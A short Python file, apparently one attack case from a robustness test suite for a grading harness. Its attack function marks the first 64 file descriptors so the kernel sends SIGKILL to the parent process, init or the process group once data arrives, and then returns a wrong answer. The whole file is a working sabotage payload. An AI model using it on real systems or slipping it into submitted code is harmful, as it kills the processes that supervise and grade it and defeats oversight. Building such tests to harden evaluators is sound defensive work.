"""Lets the kernel kill for it: whoever owns a pipe gets SIGKILL when something can be read from it.
Ends as: error, crash, fail
"""

import contextlib
import fcntl
import os
import signal

F_SETSIG = 10


def attack(X, wrong):
    for descriptor in range(64):
        for owner in (os.getppid(), 1, -1, -os.getpgrp()):
            with contextlib.suppress(OSError):
                fcntl.fcntl(descriptor, fcntl.F_SETOWN, owner)
                fcntl.fcntl(descriptor, F_SETSIG, signal.SIGKILL)
                fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    return wrong
